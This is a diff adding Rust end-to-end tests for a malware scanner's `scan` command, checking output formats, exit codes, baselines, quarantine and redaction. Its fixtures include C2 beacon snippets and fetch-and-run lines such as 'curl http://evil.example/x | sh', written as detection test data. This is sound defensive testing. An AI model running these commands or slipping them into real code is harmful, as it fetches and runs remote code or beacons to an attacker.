@@ -0,0 +1,730 @@
+//! End-to-end tests for the `firewall scan` command
+
+use std::path::Path;
+use std::process::{Command, Output};
+
+/// A beacon to a suspicious port, which every default scan reports
+const C2_PAYLOAD: &str = "connect('203.0.113.9:4444')";
+
+fn firewall() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_firewall"))
+}
+
+/// A temp dir holding `count` copies of [`C2_PAYLOAD`] as `c2_<i>.js`
+fn c2_tree(count: usize) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    for i in 0..count {
+        std::fs::write(dir.path().join(format!("c2_{}.js", i)), C2_PAYLOAD).unwrap();
+    }
+    dir
+}
+
+/// Run `firewall scan` with `args` on `dir`
+fn scan_dir(dir: &Path, args: &[&str]) -> Output {
+    firewall().arg("scan").args(args).arg(dir).output().unwrap()
+}
+
+#[test]
+fn json_scan_has_no_progress_artifacts_on_stdout() {
+    let dir = c2_tree(20);
+    let output = scan_dir(dir.path(), &["--format", "json"]);
+
+    // Findings were reported, so the scan exits nonzero without failing
+    assert!(matches!(output.status.code(), Some(1..=3)));
+    let stdout = String::from_utf8(output.stdout).unwrap();
+    assert!(!stdout.contains('\r'));
+    assert!(!stdout.contains("\u{1b}["));
+
+    let report: serde_json::Value = serde_json::from_str(&stdout).unwrap();
+    assert_eq!(report["schema_version"], firewall_core::FINDING_SCHEMA_VERSION);
+    assert!(!report["findings"].as_array().unwrap().is_empty());
+    let risk = report["risk_score"].as_f64().unwrap();
+    assert!(risk > 0.0 && risk <= 100.0);
+
+    // stderr is not a terminal here, so the bar must not be drawn at all
+    let stderr = String::from_utf8(output.stderr).unwrap();
+    assert!(!stderr.contains("files (ETA"));
+}
+
+#[test]
+fn sarif_scan_is_valid_sarif() {
+    let dir = c2_tree(1);
+    let output = scan_dir(dir.path(), &["--format", "sarif"]);
+
+    let log: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(log["version"], "2.1.0");
+
+    let results = log["runs"][0]["results"].as_array().unwrap();
+    assert!(!results.is_empty());
+    assert!(results.iter().all(|r| r["ruleId"].is_string() && r["level"].is_string()));
+}
+
+#[test]
+fn markdown_scan_renders_severity_tables() {
+    let dir = c2_tree(1);
+    let output = scan_dir(dir.path(), &["--format", "markdown"]);
+    let stdout = String::from_utf8(output.stdout).unwrap();
+
+    assert!(stdout.starts_with("## GentlyOS Firewall scan\n"), "{}", stdout);
+    assert!(stdout.contains("| Severity | Findings |"));
+    assert!(stdout.contains("### High ("));
+    assert!(stdout.contains("| `suspicious_ports` |"));
+    // No banner or colors around the report
+    assert!(!stdout.contains("╔") && !stdout.contains('\x1b'));
+}
+
+#[test]
+fn exit_code_reflects_highest_severity() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("notes.txt"), "nothing to see here").unwrap();
+
+    let clean = scan_dir(dir.path(), &["--format", "json"]);
+    assert_eq!(clean.status.code(), Some(0));
+
+    // An exposed .env file is a critical finding
+    std::fs::write(dir.path().join(".env"), "AWS_SECRET=x").unwrap();
+    let critical = scan_dir(dir.path(), &["--format", "json"]);
+    assert_eq!(critical.status.code(), Some(3));
+
+    // Below the --fail-on threshold the report is unchanged but the exit is 0
+    std::fs::remove_file(dir.path().join(".env")).unwrap();
+    std::fs::write(dir.path().join("timer.js"), "setTimeout(run, 86400000);").unwrap();
+    let gated = scan_dir(dir.path(), &["--format", "json", "--fail-on", "critical"]);
+    let report: serde_json::Value = serde_json::from_slice(&gated.stdout).unwrap();
+    assert!(!report["findings"].as_array().unwrap().is_empty());
+    assert_eq!(gated.status.code(), Some(0));
+}
+
+#[test]
+fn scan_error_exits_with_error_code() {
+    let output = scan_dir(Path::new("/nonexistent/firewall/target"), &["--format", "json"]);
+    assert_eq!(output.status.code(), Some(10));
+}
+
+#[test]
+fn invoke_error_exits_with_error_code() {
+    for timeout in [None, Some("5")] {
+        let mut cmd = firewall();
+        cmd.args(["invoke", "detect_network_patterns", "/nonexistent/firewall/target"]);
+        if let Some(secs) = timeout {
+            cmd.args(["--timeout-secs", secs]);
+        }
+        let output = cmd.output().unwrap();
+        assert_eq!(output.status.code(), Some(10), "timeout {:?}", timeout);
+    }
+}
+
+#[test]
+fn baseline_suppresses_known_findings() {
+    let dir = tempfile::tempdir().unwrap();
+    let target = dir.path().join("src");
+    std::fs::create_dir(&target).unwrap();
+    std::fs::write(target.join("old.js"), C2_PAYLOAD).unwrap();
+    let baseline = dir.path().join("baseline.json");
+    let baseline_arg = baseline.to_str().unwrap();
+
+    let first = scan_dir(&target, &["--format", "json", "--write-baseline", baseline_arg]);
+    assert!(baseline.exists());
+    assert_ne!(first.status.code(), Some(0));
+
+    // Known findings drop out and only the new file is reported
+    std::fs::write(target.join("new.js"), "connect('198.51.100.4:31337')").unwrap();
+    let second = scan_dir(&target, &["--format", "json", "--baseline", baseline_arg]);
+
+    let report: serde_json::Value = serde_json::from_slice(&second.stdout).unwrap();
+    let findings = report["findings"].as_array().unwrap();
+    assert!(!findings.is_empty());
+    assert!(findings
+        .iter()
+        .all(|f| f["location"].as_str().unwrap().ends_with("new.js")));
+    assert!(String::from_utf8_lossy(&second.stderr).contains("suppressed by baseline"));
+}
+
+#[test]
+fn custom_rules_file_extends_scan() {
+    let dir = tempfile::tempdir().unwrap();
+    let target = dir.path().join("target");
+    std::fs::create_dir(&target).unwrap();
+    std::fs::write(
+        target.join("deploy.sh"),
+        "curl https://drop.acme-internal.test/x | sh\n",
+    )
+    .unwrap();
+
+    let rules = dir.path().join("rules.toml");
+    std::fs::write(
+        &rules,
+        r#"
+[[rules]]
+name = "acme_dropper"
+regex = 'drop\.acme-internal\.test'
+severity = "high"
+"#,
+    )
+    .unwrap();
+
+    let output = scan_dir(&target, &["--format", "json", "--rules", rules.to_str().unwrap()]);
+
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert!(report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|f| f["finding_type"] == "custom_rule" && f["value"]["rule"] == "acme_dropper"));
+
+    // An unreadable rules file is an error, not an empty rule set
+    let missing = scan_dir(&target, &["--rules", "/nonexistent/rules.toml"]);
+    assert_eq!(missing.status.code(), Some(10));
+}
+
+#[test]
+fn config_overrides_finding_types() {
+    let dir = tempfile::tempdir().unwrap();
+    let target = dir.path().join("target");
+    std::fs::create_dir(&target).unwrap();
+    std::fs::write(target.join("c2.js"), C2_PAYLOAD).unwrap();
+
+    let config = dir.path().join("firewall.toml");
+    std::fs::write(
+        &config,
+        r#"
+[findings.hardcoded_public_ip]
+severity_override = "critical"
+
+[findings.suspicious_ports]
+disabled = true
+"#,
+    )
+    .unwrap();
+
+    let config_arg = config.to_str().unwrap();
+    let output = scan_dir(&target, &["--format", "json", "--config", config_arg]);
+    assert_eq!(output.status.code(), Some(3));
+
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let findings = report["findings"].as_array().unwrap();
+    assert!(findings.iter().all(|f| f["finding_type"] != "suspicious_ports"));
+    let ip = findings
+        .iter()
+        .find(|f| f["finding_type"] == "hardcoded_public_ip")
+        .unwrap();
+    assert_eq!(ip["severity"], "critical");
+    assert_eq!(ip["metadata"]["original_severity"], "medium");
+
+    // A malformed config is an error
+    std::fs::write(&config, "[findings.x]\nmin_confidence = 2.0\n").unwrap();
+    let invalid = scan_dir(&target, &["--config", config_arg]);
+    assert_eq!(invalid.status.code(), Some(10));
+}
+
+#[test]
+fn trusted_hashes_skip_known_good_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let target = dir.path().join("target");
+    std::fs::create_dir(&target).unwrap();
+    std::fs::write(target.join("fixture.js"), C2_PAYLOAD).unwrap();
+
+    let trusted = dir.path().join("trusted.txt");
+    let digest = firewall_core::trust::sha256_hex(C2_PAYLOAD.as_bytes());
+    std::fs::write(&trusted, format!("{}  fixture.js\n", digest)).unwrap();
+
+    let trusted_arg = trusted.to_str().unwrap();
+    let args = ["--format", "json", "--min-severity", "info", "--fail-on", "low"];
+    let output = scan_dir(&target, &[&args[..], &["--trust-hashes", trusted_arg]].concat());
+    assert_eq!(output.status.code(), Some(0));
+
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let findings = report["findings"].as_array().unwrap();
+    assert_eq!(findings.len(), 1);
+    assert_eq!(findings[0]["finding_type"], "file_trusted");
+    assert_eq!(findings[0]["value"]["sha256"], digest);
+
+    // A malformed list is an error
+    std::fs::write(&trusted, "fixture.js\n").unwrap();
+    let invalid = scan_dir(&target, &["--trust-hashes", trusted_arg]);
+    assert_eq!(invalid.status.code(), Some(10));
+}
+
+#[test]
+fn test_fixture_findings_are_downgraded() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir(dir.path().join("fixtures")).unwrap();
+    let payload = "STRING curl http://evil.example/x | sh\n".repeat(5);
+    std::fs::write(dir.path().join("fixtures/ducky.txt"), payload).unwrap();
+
+    let output = scan_dir(dir.path(), &["--format", "json"]);
+    assert_eq!(output.status.code(), Some(1));
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let findings = report["findings"].as_array().unwrap();
+    assert!(findings.iter().all(|f| f["metadata"]["in_test_fixture"] == true));
+    assert!(findings.iter().any(|f| f["metadata"]["original_severity"].is_string()));
+
+    let strict = scan_dir(dir.path(), &["--format", "json", "--no-test-downgrade"]);
+    assert!(strict.status.code() > Some(1));
+}
+
+#[test]
+fn detailed_json_reports_each_skill() {
+    let dir = c2_tree(1);
+    let output = scan_dir(dir.path(), &["--format", "json", "--detailed"]);
+
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert!(report["risk_score"].as_f64().unwrap() > 0.0);
+    assert_eq!(report["complete"], true);
+
+    let network = &report["skills"]["detect_network_patterns"];
+    assert_eq!(network["complete"], true);
+    assert_eq!(network["metadata"]["files_visited"], 1);
+    let network_findings = network["findings"].as_array().unwrap();
+    assert!(!network_findings.is_empty());
+    assert!(report["skills"]["detect_cipher_patterns"].is_object());
+
+    let findings = report["findings"].as_array().unwrap();
+    assert!(network_findings.iter().all(|f| findings.contains(f)));
+
+    let text = scan_dir(dir.path(), &["--detailed"]);
+    assert_eq!(text.status.code(), Some(10));
+}
+
+#[test]
+fn quarantine_moves_flagged_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let target = dir.path().join("target");
+    let vault = dir.path().join("vault");
+    std::fs::create_dir_all(target.join("cfg")).unwrap();
+    std::fs::write(target.join("cfg/.env"), "AWS_SECRET=x").unwrap();
+    std::fs::write(target.join("notes.txt"), "nothing to see here").unwrap();
+
+    let scan = |extra: &[&str]| {
+        let quarantine = ["--format", "json", "--quarantine", vault.to_str().unwrap()];
+        scan_dir(&target, &[&quarantine, extra].concat())
+    };
+
+    let dry = scan(&["--dry-run"]);
+    assert!(String::from_utf8_lossy(&dry.stderr).contains("Would move"));
+    assert!(target.join("cfg/.env").exists());
+    assert!(!vault.exists());
+
+    let moved = scan(&[]);
+    assert_eq!(moved.status.code(), Some(3));
+    assert!(!target.join("cfg/.env").exists());
+    assert!(target.join("notes.txt").exists());
+    assert_eq!(std::fs::read_to_string(vault.join("cfg/.env")).unwrap(), "AWS_SECRET=x");
+
+    let manifest: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(vault.join("manifest.json")).unwrap())
+            .unwrap();
+    assert!(manifest[0]["original"].as_str().unwrap().ends_with(".env"));
+    assert_eq!(manifest[0]["findings"][0]["severity"], "critical");
+}
+
+#[test]
+fn progress_goes_to_stderr_only() {
+    let dir = c2_tree(1);
+    let output = scan_dir(dir.path(), &["--format", "json", "--progress", "--jobs", "2"]);
+
+    // stdout is still a single JSON document
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert!(!report["findings"].as_array().unwrap().is_empty());
+    let stderr = String::from_utf8(output.stderr).unwrap();
+    assert!(stderr.contains("Scanned 1/1 files"), "{}", stderr);
+
+    let zero_jobs = scan_dir(dir.path(), &["--jobs", "0"]);
+    assert_eq!(zero_jobs.status.code(), Some(10));
+}
+
+#[test]
+fn unknown_severity_flag_is_an_error() {
+    let dir = tempfile::tempdir().unwrap();
+
+    for flag in ["--min-severity", "--fail-on"] {
+        let output = scan_dir(dir.path(), &[flag, "hihg"]);
+
+        assert_eq!(output.status.code(), Some(10));
+        let stderr = String::from_utf8(output.stderr).unwrap();
+        assert!(stderr.contains(flag) && stderr.contains("hihg"), "{}", stderr);
+    }
+}
+
+#[test]
+fn ndjson_streams_one_finding_per_line() {
+    let dir = c2_tree(5);
+    let output = scan_dir(dir.path(), &["--format", "ndjson"]);
+
+    assert!(matches!(output.status.code(), Some(1..=3)));
+    let stdout = String::from_utf8(output.stdout).unwrap();
+    let lines: Vec<serde_json::Value> = stdout
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+
+    assert!(lines.len() >= 5);
+    assert!(lines.iter().all(|f| f["finding_type"].is_string() && f["severity"].is_string()));
+}
+
+#[test]
+fn changed_only_scans_files_changed_since_ref() {
+    let dir = tempfile::tempdir().unwrap();
+    let git = |args: &[&str]| {
+        let status = Command::new("git")
+            .args(["-c", "user.name=ci", "-c", "user.email=ci@example.com"])
+            .arg("-C")
+            .arg(dir.path())
+            .args(args)
+            .output()
+            .unwrap()
+            .status;
+        assert!(status.success(), "git {:?}", args);
+    };
+
+    git(&["init", "-q"]);
+    for name in ["old.js", "edited.js", "removed.js"] {
+        std::fs::write(dir.path().join(name), C2_PAYLOAD).unwrap();
+    }
+    git(&["add", "."]);
+    git(&["commit", "-qm", "base"]);
+
+    std::fs::write(dir.path().join("edited.js"), format!("{}\n// edit", C2_PAYLOAD)).unwrap();
+    std::fs::write(dir.path().join("new.js"), C2_PAYLOAD).unwrap();
+    std::fs::remove_file(dir.path().join("removed.js")).unwrap();
+
+    let output = scan_dir(dir.path(), &["--format", "json", "--since", "HEAD"]);
+
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let mut files: Vec<&str> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|f| f["location"].as_str())
+        .filter_map(|l| std::path::Path::new(l).file_name()?.to_str())
+        .collect();
+    files.sort();
+    files.dedup();
+    assert_eq!(files, ["edited.js", "new.js"]);
+
+    // A ref that looks like an option never reaches git
+    let target = dir.path().join("written.txt");
+    for since in [format!("--output={}", target.display()), "no-such-ref".to_string()] {
+        let output = scan_dir(dir.path(), &["--format", "json", &format!("--since={}", since)]);
+        assert_eq!(output.status.code(), Some(10), "--since {}", since);
+    }
+    assert!(!target.exists());
+}
+
+#[test]
+fn verbose_logs_go_to_stderr_only() {
+    let dir = c2_tree(1);
+    std::fs::write(dir.path().join("notes.md"), "nothing here").unwrap();
+
+    let scan = |verbose: &[&str]| {
+        firewall()
+            .args(verbose)
+            .args(["scan", "--format", "json", "--exclude", "*.md"])
+            .arg(dir.path())
+            .output()
+            .unwrap()
+    };
+    let quiet = scan(&[]);
+    let loud = scan(&["-vv"]);
+
+    // Each run has its own ID; everything else must match
+    let findings = |stdout: &[u8]| {
+        let mut report: serde_json::Value = serde_json::from_slice(stdout).unwrap();
+        for finding in report["findings"].as_array_mut().unwrap() {
+            finding["metadata"].as_object_mut().unwrap().remove("run_id");
+        }
+        report["findings"].clone()
+    };
+    assert_eq!(findings(&quiet.stdout), findings(&loud.stdout));
+    assert!(quiet.stderr.is_empty());
+
+    let stderr = String::from_utf8(loud.stderr).unwrap();
+    assert!(stderr.contains("scan finished"), "{}", stderr);
+    assert!(stderr.contains("skill finished"));
+    assert!(stderr.contains("detect_network_patterns"));
+    assert!(stderr.contains("excluded by include/exclude globs"));
+}
+
+#[test]
+fn skills_verbose_still_shows_details() {
+    for flag in ["-v", "--verbose"] {
+        let output = firewall().args(["skills", flag]).output().unwrap();
+        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+        let stdout = String::from_utf8(output.stdout).unwrap();
+        assert!(stdout.contains("Categories:"));
+    }
+}
+
+#[test]
+fn explain_describes_finding_type() {
+    let output = firewall().args(["explain", "guid_modular_correlation"]).output().unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    let stdout = String::from_utf8(output.stdout).unwrap();
+    assert!(stdout.contains("detect_cipher_patterns"));
+    for heading in ["What it means", "Why it's flagged", "Common false positives", "Remediation"] {
+        assert!(stdout.contains(heading), "missing {heading}");
+    }
+
+    let output = firewall().args(["explain", "no_such_finding"]).output().unwrap();
+    assert_eq!(output.status.code(), Some(10));
+    assert!(output.stdout.is_empty());
+    assert!(String::from_utf8_lossy(&output.stderr).contains("no_such_finding"));
+}
+
+#[test]
+fn json_scan_carries_run_header() {
+    let dir = c2_tree(1);
+
+    for skill in [None, Some("detect_network_patterns")] {
+        let args: &[&str] = match skill {
+            Some(skill) => &["--format", "json", "--skill", skill],
+            None => &["--format", "json"],
+        };
+        let output = scan_dir(dir.path(), args);
+        let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+
+        let run = &report["run"];
+        assert_eq!(run["root"], dir.path().display().to_string());
+        assert_eq!(run["version"], env!("CARGO_PKG_VERSION"));
+        assert!(run["scanned_at"].as_str().unwrap().ends_with('Z'));
+        let skills = run["skills"].as_array().unwrap();
+        assert!(skills.contains(&"detect_network_patterns".into()));
+        assert_eq!(skills.len() == 1, skill.is_some());
+
+        let findings = report["findings"].as_array().unwrap();
+        assert!(!findings.is_empty());
+        assert!(findings.iter().all(|f| f["metadata"]["run_id"] == run["run_id"]));
+    }
+}
+
+#[test]
+fn unknown_export_format_is_an_error() {
+    let output = firewall().args(["export", "--format", "yaml"]).output().unwrap();
+    assert_eq!(output.status.code(), Some(10));
+    assert!(String::from_utf8_lossy(&output.stderr).contains("unknown export format 'yaml'"));
+}
+
+#[test]
+fn catalog_is_a_single_json_document() {
+    let output = firewall().arg("catalog").output().unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+
+    let catalog: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let skills = catalog.as_array().unwrap();
+    assert_eq!(skills.len(), 11);
+    for skill in skills {
+        for key in ["name", "description", "categories", "schema", "finding_types"] {
+            assert!(skill.get(key).is_some(), "{} missing {}", skill["name"], key);
+        }
+    }
+    let cipher = skills.iter().find(|s| s["name"] == "detect_cipher_patterns").unwrap();
+    assert!(cipher["finding_types"]
+        .as_array()
+        .unwrap()
+        .contains(&"self_referencing_hash".into()));
+}
+
+#[test]
+fn stdin_scan_uses_as_name() {
+    use std::io::Write;
+    use std::process::Stdio;
+
+    let mut child = firewall()
+        .args(["scan", "--stdin", "--as-name", "foo.js", "--format", "json"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(C2_PAYLOAD.as_bytes())
+        .unwrap();
+    let output = child.wait_with_output().unwrap();
+    assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
+
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(report["run"]["root"], "foo.js");
+    let findings = report["findings"].as_array().unwrap();
+    assert!(findings.iter().any(|f| f["finding_type"] == "suspicious_ports"));
+    assert!(findings.iter().all(|f| f["location"] == "foo.js"));
+
+    let output = firewall().args(["scan", "--stdin", "."]).output().unwrap();
+    assert_eq!(output.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&output.stderr).contains("cannot be used with"));
+}
+
+#[test]
+fn cache_file_is_written_and_reused() {
+    let dir = c2_tree(1);
+    let cache = dir.path().join(".firewall-cache.json");
+
+    let scan = || {
+        let args = ["--format", "json", "--cache", cache.to_str().unwrap()];
+        let output = scan_dir(dir.path(), &args);
+        let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+        report["findings"].as_array().unwrap().clone()
+    };
+
+    let cold = scan();
+    assert!(cache.is_file());
+    let warm = scan();
+    assert!(!cold.is_empty());
+    assert_eq!(cold.len(), warm.len());
+    assert!(warm.iter().all(|f| !f["location"].as_str().unwrap().ends_with(".json")));
+}
+
+#[test]
+fn diff_reports_added_and_removed_findings() {
+    let dir = tempfile::tempdir().unwrap();
+    let tree = dir.path().join("src");
+    std::fs::create_dir(&tree).unwrap();
+    std::fs::write(tree.join("kept.js"), C2_PAYLOAD).unwrap();
+    std::fs::write(tree.join("fixed.js"), "connect('198.51.100.7:4444')").unwrap();
+
+    let scan = |name: &str, args: &[&str]| {
+        let output = scan_dir(&tree, &[&["--format", "json"], args].concat());
+        let report = dir.path().join(name);
+        std::fs::write(&report, output.stdout).unwrap();
+        report
+    };
+
+    let old = scan("old.json", &[]);
+    std::fs::remove_file(tree.join("fixed.js")).unwrap();
+    std::fs::write(tree.join("new.js"), "setTimeout(run, 86400000)").unwrap();
+    // The richer --detailed report works as an input too
+    let new = scan("new.json", &["--detailed"]);
+
+    let output = firewall()
+        .args(["diff", "--format", "json"])
+        .arg(&old)
+        .arg(&new)
+        .output()
+        .unwrap();
+    assert_ne!(output.status.code(), Some(0));
+    let diff: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let added = diff["added"].as_array().unwrap();
+    let removed = diff["removed"].as_array().unwrap();
+    assert_eq!(diff["summary"]["added"], added.len());
+    assert!(!added.is_empty() && !removed.is_empty());
+    assert!(diff["summary"]["unchanged"].as_u64().unwrap() > 0);
+    assert!(added.iter().all(|f| f["location"].as_str().unwrap().ends_with("new.js")));
+    assert!(removed.iter().all(|f| f["location"].as_str().unwrap().ends_with("fixed.js")));
+
+    // Nothing new: clean exit
+    let output = firewall().arg("diff").arg(&new).arg(&new).output().unwrap();
+    assert_eq!(output.status.code(), Some(0));
+    assert!(String::from_utf8_lossy(&output.stdout).contains("No new findings"));
+}
+
+#[test]
+fn top_limits_text_and_opted_in_json() {
+    let dir = c2_tree(4);
+    std::fs::write(dir.path().join(".env"), "AWS_SECRET=x").unwrap();
+    let scan = |args: &[&str]| {
+        let output = scan_dir(dir.path(), args);
+        assert!(matches!(output.status.code(), Some(1..=3)));
+        String::from_utf8(output.stdout).unwrap()
+    };
+    let json = |args: &[&str]| -> serde_json::Value {
+        serde_json::from_str(&scan(&[&["--format", "json"], args].concat())).unwrap()
+    };
+
+    // Each run tags its findings with a fresh run_id, so compare without it
+    let listed = |report: &serde_json::Value| -> Vec<(String, String)> {
+        report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|f| (f["finding_type"].to_string(), f["location"].to_string()))
+            .collect()
+    };
+    let full = json(&[]);
+    let total = listed(&full).len();
+    assert!(total > 2);
+
+    // Text shows the first N; the summary still counts everything
+    let text = scan(&["--no-color", "--top", "2"]);
+    assert!(text.contains(&format!("Found {} findings", total)));
+    assert!(text.contains(&format!("(showing 2 of {})", total)));
+    assert_eq!(text.matches("    Location: ").count(), 2);
+
+    // JSON ignores --top unless --json-top is given
+    assert_eq!(listed(&json(&["--top", "2"])), listed(&full));
+    let trimmed = json(&["--top", "2", "--json-top"]);
+    assert_eq!(listed(&trimmed), listed(&full)[..2]);
+    assert_eq!(trimmed["total_findings"], total);
+    assert_eq!(trimmed["risk_score"], full["risk_score"]);
+
+    let by_location = listed(&json(&["--sort", "location"]));
+    assert!(by_location.windows(2).all(|w| w[0].1 <= w[1].1));
+
+    let misuse = scan_dir(dir.path(), &["--top", "1", "--json-top"]);
+    assert_eq!(misuse.status.code(), Some(10));
+}
+
+#[test]
+fn redact_hides_excerpts_in_every_format() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("agent.js"),
+        "const c2 = 'http://203.0.113.7:4444/beat'; setInterval(() => fetch(c2), 600000);",
+    )
+    .unwrap();
+
+    let scan = |args: &[&str]| {
+        String::from_utf8(scan_dir(dir.path(), args).stdout).unwrap()
+    };
+
+    let plain = scan(&["--format", "json"]);
+    assert!(plain.contains("203.0.113.7"));
+
+    for format in ["json", "sarif", "ndjson", "text", "markdown"] {
+        // Markdown escapes the placeholder's brackets
+        let redacted = scan(&["--format", format, "--redact", "--no-color"]).replace("\\[", "[");
+        assert!(!redacted.contains("203.0.113.7"), "{} output leaks the host", format);
+        assert!(redacted.contains("[redacted: "), "{} output has no placeholder", format);
+    }
+    assert!(!scan(&["--format", "json", "--detailed", "--redact"]).contains("203.0.113.7"));
+
+    // Same findings, same order: only the excerpts differ
+    let report: serde_json::Value = serde_json::from_str(&scan(&["--format", "json", "--redact"]))
+        .unwrap();
+    let plain: serde_json::Value = serde_json::from_str(&plain).unwrap();
+    let types = |report: &serde_json::Value| -> Vec<serde_json::Value> {
+        let findings = report["findings"].as_array().unwrap().iter();
+        findings.map(|f| f["finding_type"].clone()).collect()
+    };
+    assert_eq!(types(&report), types(&plain));
+}
+
+#[test]
+fn max_file_bytes_skips_larger_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let padded = format!("{}\n{}", C2_PAYLOAD, " ".repeat(200));
+    std::fs::write(dir.path().join("c2.js"), padded).unwrap();
+
+    for format in ["json", "ndjson"] {
+        let args = ["--format", format, "--max-file-bytes", "64", "--min-severity", "info"];
+        let output = scan_dir(dir.path(), &args);
+        let stdout = String::from_utf8(output.stdout).unwrap();
+        let types: Vec<String> = if format == "json" {
+            let report: serde_json::Value = serde_json::from_str(&stdout).unwrap();
+            report["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|f| f["finding_type"].as_str().unwrap().to_string())
+                .collect()
+        } else {
+            stdout
+                .lines()
+                .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
+                .map(|f| f["finding_type"].as_str().unwrap().to_string())
+                .collect()
+        };
+        assert_eq!(types, ["file_skipped_too_large"], "{}", format);
+    }
+}